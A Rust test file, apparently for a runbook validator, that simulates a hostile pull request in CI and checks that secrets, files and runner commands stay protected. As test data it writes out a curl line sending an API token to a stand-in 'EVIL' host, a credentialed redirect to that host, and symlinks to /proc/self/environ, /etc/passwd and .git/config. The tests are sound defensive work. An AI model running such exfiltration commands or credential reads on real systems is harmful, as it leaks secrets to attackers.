//! A hostile pull request, end to end: a bare repository, a checkout of the attacker's branch as CI
//! has it, a job with secrets in its environment, an attacker who listens and whom names are asked
//! of. What the attacker hears and what is told count, not what the program thinks of itself.

#[path = "hostile/attacker.rs"]
mod attacker;
#[path = "hostile/attempts.rs"]
mod attempts;
#[path = "hostile/change.rs"]
mod change;
mod lab;
#[path = "hostile/log.rs"]
mod log;
#[path = "hostile/scene.rs"]
mod scene;
mod screen;
mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::process::Stdio;
use std::time::{Duration, Instant};

use attempts::{ATTEMPTS, Works};
use lab::Seen;
use scene::{SECRETS, Scene};

type Files = BTreeMap<PathBuf, Vec<u8>>;

const FORMATS: &[&str] = &["text", "json", "junit", "sarif", "github"];

/// A runbook of one block.
fn alone(block: &str) -> String {
    format!(
        "# Look\n\n**Last validated:** 2025-01-02  \n**Validation method:** read-only-docs\n\n## Step 1 — Look\n\n```bash\n{block}\n```\n"
    )
}

/// The files that are not the same in both.
fn changed<'a>(before: &'a Files, after: &'a Files) -> Vec<&'a PathBuf> {
    let names: BTreeSet<_> = before.keys().chain(after.keys()).collect();
    names.into_iter().filter(|name| before.get(*name) != after.get(*name)).collect()
}

#[test]
fn every_way_out_is_one_where_nothing_holds_it() {
    let scene = Scene::new();
    scene.plant();
    scene.lures();
    let shown = ATTEMPTS.iter().filter(|one| one.works == Works::Here);
    let held: Vec<_> = shown
        .filter(|one| {
            let mut command = scene.plainly(one.block);
            let _ = command.stdout(Stdio::null()).stderr(Stdio::null()).status();
            !scene.attacker.hears()
        })
        .map(|one| one.name)
        .collect();
    // Names are asked of the attacker only where this process may mount.
    let by_name = |name: &&str| scene::is_root() || !attempts::BY_NAME.contains(name);
    assert_eq!(held.into_iter().filter(by_name).collect::<Vec<_>>(), [] as [&str; 0]);
}

#[test]
fn no_way_out_carries_anything_out_by_itself() {
    let scene = Scene::new();
    fs::remove_file(scene.work("docs/look.md")).expect("a file");
    for one in ATTEMPTS {
        scene.write(&format!("docs/{}.md", one.name), &alone(one.block));
    }
    scene.lures();
    scene.push("work", "change");
    scene.plant();
    let before = scene.checkout();
    let seen = scene.validate(&["--format", "json", "docs"]);
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
    assert_eq!(scene.marks(), [] as [String; 0]);
    assert_eq!(changed(&before, &scene.checkout()), [] as [&PathBuf; 0]);
    seen.exit(4);
    let report = seen.report();
    let books = report["runbooks"].as_array().expect("runbooks");
    assert_eq!(books.len(), ATTEMPTS.len());
    let passed: Vec<_> = (0..books.len())
        .map(|number| seen.book(number))
        .filter(|book| book.segments().iter().any(|word| word == "met" || word == "status-only"))
        .map(|book| book.text("file"))
        .collect();
    // Those read nothing but what is here, and say nothing to anybody.
    assert_eq!(
        passed,
        [
            "docs/git-diff.md",
            "docs/git-status.md",
            "docs/hostname.md",
            "docs/jq.md",
            "docs/variable-later.md"
        ]
    );
}

/// Where a secret stands in what was told or written, and in which form.
fn leaks(scene: &Scene, seen: &Seen) -> Vec<String> {
    let outputs = [("stdout", &seen.stdout), ("stderr", &seen.stderr)];
    let outputs = outputs.map(|(name, text)| (PathBuf::from(name), text.clone().into_bytes()));
    let all: Vec<_> = outputs.into_iter().chain(scene.files()).collect();
    let leaks = SECRETS.iter().flat_map(|(name, secret)| {
        let found = move |(path, bytes): &(PathBuf, Vec<u8>)| {
            let form = log::form_of(secret, bytes)?;
            Some(format!("{name} in {} as {form}", path.display()))
        };
        all.iter().filter_map(found)
    });
    leaks.collect()
}

#[test]
fn a_hostile_pull_request_gets_nothing_and_is_refused_with_every_reason() {
    let scene = Scene::new();
    scene.change();
    let before = scene.checkout();
    let seen = scene.validate(&["--format", "github", "--stamp", "docs/"]);
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
    assert_eq!(scene.marks(), [] as [String; 0]);
    assert_eq!(changed(&before, &scene.checkout()), [] as [&PathBuf; 0]);
    assert_eq!(leaks(&scene, &seen), [] as [String; 0]);
    assert_eq!(fs::read_dir(scene.at("tmp")).expect("a folder").count(), 0);
    assert_eq!(seen.stderr, "");
    seen.exit(4);
    for reason in [
        // The settings.
        "runbook.toml is not the one of origin/main",
        &scene.filled("+ hosts = [\"EVIL\""),
        "+ tools = [",
        "+ names = \"evilctl\"",
        "+ [roles.everybody]",
        "+ [[sink]]",
        "holds once it is merged",
        // The document.
        &scene.filled("it goes to EVIL, which is not listed"),
        "U+202E RIGHT-TO-LEFT OVERRIDE",
        "U+200B ZERO WIDTH SPACE",
        "`runbook: disable` silences nothing here",
        "`runbook: allow` silences nothing here",
        "commands in a comment are seen by nobody",
        "the attribute `manual=no` is not known and has no effect",
        "the value of `API_TOKEN` stands on the argument list",
        "`touch` changes files",
        "`evilctl` is not in the catalogue",
        "an expectation was weakened",
        "not stamped",
    ] {
        seen.says(reason);
    }
    // The listed host heard what it is asked, with the token, and nothing else.
    let asked: BTreeSet<_> = scene.server.journal().into_iter().collect();
    assert_eq!(asked.into_iter().collect::<Vec<_>>(), ["GET /noise", "GET /token"]);
}

#[test]
fn nothing_that_a_change_or_its_commands_say_is_obeyed_by_the_runner() {
    let scene = Scene::new();
    scene.change();
    let seen = scene.validate(&["--format", "github", "--stamp", "docs/"]);
    // What it is about got through, and disarmed.
    seen.says("`::error::said").says("## [error]said");
    // The kernel keeps the environment of whoever started the shell from it.
    seen.says("environ: Permission denied");
    let ours = |line: &String| {
        ["error", "warning", "notice"].iter().any(|kind| line.starts_with(&format!("::{kind} ")))
    };
    let obeyed = log::obeyed(&seen.stdout);
    assert!(!obeyed.is_empty());
    let theirs: Vec<_> = obeyed.iter().filter(|line| !ours(line)).collect();
    assert_eq!(theirs, [] as [&String; 0]);
    let elsewhere = |line: &&String| !line.contains("file=docs/") || line.contains("##[");
    assert_eq!(obeyed.iter().filter(elsewhere).collect::<Vec<_>>(), [] as [&String; 0]);
    // Behind the fence everything is disarmed as well: whoever reads the log by other rules.
    let fence = |line: &String| line.starts_with("::stop-commands::") || line.len() == 36;
    let mut alike = log::look_alikes(&seen.stdout);
    alike.retain(|line| !fence(line) && !ours(line));
    assert_eq!(alike, [] as [String; 0]);
    let summary = fs::read_to_string(scene.at("summary.md")).expect("a summary");
    assert_eq!(log::look_alikes(&summary), [] as [String; 0]);
    assert_eq!(log::markup(&summary), [] as [String; 0], "{summary}");
}

#[test]
fn no_format_tells_a_secret_or_a_command_of_the_runner() {
    let scene = Scene::new();
    scene.change();
    for format in FORMATS.iter().filter(|format| **format != "github") {
        let seen = scene.validate(&["--format", format, "--stamp", "docs/"]);
        seen.exit(4);
        assert_eq!(leaks(&scene, &seen), [] as [String; 0], "{format}");
        assert_eq!(log::look_alikes(&seen.stdout), [] as [String; 0], "{format}");
        assert_eq!(log::look_alikes(&seen.stderr), [] as [String; 0], "{format}");
        assert!(!seen.stdout.contains('\u{1b}') && !seen.stderr.contains('\u{1b}'), "{format}");
    }
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
}

#[test]
fn a_harmless_change_of_the_settings_is_refused_from_the_branch_and_works_once_merged() {
    let scene = Scene::new();
    scene.write("docs/look.md", &alone("curl -sS http://LISTED/health\n# Expect: \"ok\""));
    let settings = format!("{}coverage = 0.5\n", scene.read("runbook.toml"));
    scene.write("runbook.toml", &settings);
    scene.push("work", "change");
    let words = ["--format", "github", "--stamp", "docs/"];
    let document = scene.read("docs/look.md");
    let seen = scene.validate(&words);
    seen.exit(4).says("+ coverage = 0.5").says("holds once it is merged").says("not stamped");
    assert_eq!(scene.read("docs/look.md"), document);
    scene.git("team", &["pull", "--quiet", "origin", "change"]);
    scene.push("team", "main");
    // The base did not move yet for who has not fetched.
    scene.validate(&words).exit(4);
    scene.git("work", &["fetch", "--quiet", "origin"]);
    scene.validate(&words).exit(0);
    assert!(scene.read("docs/look.md").contains("**Validation method:** read-only-live"));
}

/// A limit, which the documentation names: a listed host is trusted with where it sends a read, and
/// `curl -L` goes there. The kernel knows ports, and the gate what was asked for.
#[test]
fn a_listed_host_that_sends_reads_away_is_followed_with_l_alone() {
    let scene = Scene::new();
    let away = "\"http://LISTED/away?to=http://EVIL/sent-on\"";
    scene.write("docs/look.md", &alone(&format!("curl -sS {away}")));
    scene.validate(&["docs"]).exit(0);
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
    let block = format!("curl -sSL -H \"Authorization: Bearer $API_TOKEN\" {away}");
    scene.write("docs/look.md", &alone(&block));
    scene.validate(&["docs"]).exit(0);
    let heard = scene.attacker.take();
    assert!(heard.iter().any(|one| one.contains("GET /sent-on")), "{heard:?}");
    // curl keeps the credential to itself (https://curl.se/docs/manpage.html#-L).
    assert!(
        heard.iter().all(|one| log::form_of(SECRETS[0].1, one.as_bytes()).is_none()),
        "{heard:?}"
    );
}

#[test]
fn a_link_reads_nothing_but_the_repositorys_own_files() {
    let scene = Scene::new();
    let secret = scene.at("home/secret.md");
    fs::write(&secret, "# Secret\n\n```bash\necho canary-of-a-file\u{202e}\n```\n")
        .expect("a file");
    fs::remove_file(scene.work("docs/look.md")).expect("a file");
    let targets = [
        ("environ.md", "/proc/self/environ"),
        ("passwd.md", "/etc/passwd"),
        ("secret.md", secret.to_str().expect("a path")),
        ("git.md", "../.git/config"),
        ("zero.md", "/dev/zero"),
        ("input.md", "/dev/stdin"),
        ("round", "."),
        ("up", "../.."),
        ("gone.md", "nowhere.md"),
    ];
    for (name, target) in targets {
        symlink(target, scene.work("docs").join(name)).expect("a link");
    }
    let started = Instant::now();
    for format in FORMATS {
        let seen = scene.validate(&["--format", format, "docs"]);
        seen.exit(2).says("it leads out of the repository").never_says("canary-of-a-file");
        seen.never_says("root:x").never_says("GH_TOKEN").never_says("sshCommand");
        assert_eq!(leaks(&scene, &seen), [] as [String; 0]);
    }
    for format in ["text", "json"] {
        for (name, _) in targets {
            let named = format!("docs/{name}");
            let seen = scene.validate(&["--format", format, &named]);
            assert_ne!(seen.code, Some(0), "{name}: {seen}");
            seen.never_says("canary-of-a-file").never_says("root:x").never_says("GH_TOKEN");
            assert_eq!(leaks(&scene, &seen), [] as [String; 0]);
        }
    }
    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
}

#[test]
fn settings_that_are_a_link_are_refused_untold() {
    let scene = Scene::new();
    for target in ["/proc/self/environ", "/dev/zero", "docs/look.md"] {
        fs::remove_file(scene.work("runbook.toml")).expect("a file");
        symlink(target, scene.work("runbook.toml")).expect("a link");
        for format in ["text", "json", "github"] {
            let seen = scene.validate(&["--format", format, "docs"]);
            assert_eq!(leaks(&scene, &seen), [] as [String; 0], "{target}");
            let is_file = target != "/dev/zero";
            seen.exit(if is_file { 4 } else { 0 });
        }
    }
}

#[test]
fn what_never_ends_is_left_alone_and_what_is_too_long_is_said_to_be() {
    let scene = Scene::new();
    let pipe = scene.work("docs/pipe.md");
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, rustix::fs::Mode::RWXU).expect("a pipe");
    let long = "Somebody wrote a lot here, and then more.\n".repeat(2_500_000);
    fs::write(scene.work("docs/long.md"), long).expect("a file");
    let started = Instant::now();
    scene.validate(&["docs"]).exit(2).says("beyond the first MiB").says("validated docs/look.md");
    scene.validate(&["docs/pipe.md"]).exit(2).says("it is no ordinary file");
    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
}

#[test]
fn a_change_writes_no_answers_and_chooses_no_program_of_theirs() {
    let scene = Scene::new();
    let token = "[inputs]\nPLACE = { command = [\"health\"] }\n";
    scene.write("answers.toml", token);
    scene.write("docs/look.md", &alone("curl -sS \"http://LISTED/$PLACE\"\n# Expect: \"ok\""));
    let words = ["--format", "github", "--answers", "answers.toml", "docs/look.md"];
    scene.validate(&words).exit(4).says("so it is not used: it counts once it is merged");
    scene.runbook(&[&["validate"], &words[..]].concat()).exit(4).says("--config-ref");
    scene.push("work", "main");
    scene.git("work", &["fetch", "--quiet", "origin"]);
    // What the base asks for is taken from where no change puts it.
    scene.planted(&["health"]);
    scene.validate(&words).exit(3).says("it is not on PATH");
    assert_eq!(scene.marks(), [] as [String; 0]);
    scene.trusted("health", "echo health");
    scene.validate(&words).exit(0);
    // And the same word with a folder is not looked up at all.
    scene.write("answers.toml", &token.replace("\"health\"", "\"./bin/health\""));
    scene.push("work", "main");
    scene.git("work", &["fetch", "--quiet", "origin"]);
    scene.validate(&words).exit(3).says("named without its folder");
    assert_eq!(scene.marks(), [] as [String; 0]);
}

#[test]
fn a_submodule_brings_no_settings_of_its_own() {
    let scene = Scene::new();
    scene.submodule("docs/theirs");
    let wide = "[read-only]\nhosts = [\"EVIL\"]\n";
    scene.write("docs/theirs/runbook.toml", wide);
    let book = alone("curl -sS \"http://EVIL/$API_TOKEN\"\n# Expect: empty");
    scene.write("docs/theirs/look.md", &book);
    scene.push("work/docs/theirs", "main");
    scene.git("work/docs/theirs", &["fetch", "--quiet", "origin"]);
    let seen = scene.validate(&["docs/theirs/look.md"]);
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
    seen.exit(4).says("which is not listed").says("runbook.toml is not the one of origin/main");
}

#[test]
fn a_repository_that_is_committed_as_a_folder_starts_nothing() {
    let scene = Scene::new();
    scene.bare("sub");
    let blocks = [
        "git -C sub status",
        "git -C sub diff",
        "cd sub && git status",
        "cd sub && git ls-files -m",
        "git --no-pager -C sub diff --stat",
    ];
    for block in blocks {
        let _ = scene.plainly(block).stdout(Stdio::null()).stderr(Stdio::null()).status();
        assert_ne!(scene.marks(), [] as [String; 0], "{block}");
        scene.forget();
    }
    for (number, block) in blocks.iter().enumerate() {
        scene.write(&format!("docs/{number}.md"), &alone(block));
    }
    let _ = scene.validate(&["docs"]);
    assert_eq!(scene.marks(), [] as [String; 0]);
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
}

#[test]
fn what_the_configuration_of_a_repository_names_is_not_started_by_git() {
    let scene = Scene::new();
    scene.write("a.bin", "a\n");
    scene.push("work", "change");
    scene.write("a.bin", "b\n");
    scene.plant();
    // Attributes are switched off where git lets us, so that honest answers stay.
    scene.write("docs/look.md", &alone("git status"));
    scene.validate(&["docs/look.md"]).exit(0);
    scene.write(".git/info/attributes", "* diff=x filter=x\n");
    let blocks = [
        "git status",
        "git diff",
        "git diff --stat",
        "git diff --no-index docs/look.md a.bin",
        "git log -p",
        "git show",
        "git blame a.bin",
        "git ls-files -m",
        "git describe --always --dirty",
        "git diff-files -p",
        "git diff-index -p HEAD",
    ];
    for (number, block) in blocks.iter().enumerate() {
        scene.write(&format!("docs/{number}.md"), &alone(block));
    }
    let _ = scene.validate(&["docs"]);
    assert_eq!(scene.marks(), [] as [String; 0]);
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
}

#[test]
fn a_toolchain_of_the_repository_is_not_started() {
    let scene = Scene::new();
    let planted = scene.work("chain");
    scene.write("rust-toolchain.toml", &format!("[toolchain]\npath = \"{}\"\n", planted.display()));
    scene.write("chain/lib/.keep", "");
    scene.toolchain("chain/bin");
    for (number, block) in
        ["cargo --version", "cargo version", "cargo locate-project"].iter().enumerate()
    {
        scene.write(&format!("docs/{number}.md"), &alone(block));
    }
    let _ = scene.validate(&["docs"]);
    assert_eq!(scene.marks(), [] as [String; 0]);
    assert_eq!(scene.attacker.take(), [] as [String; 0]);
}
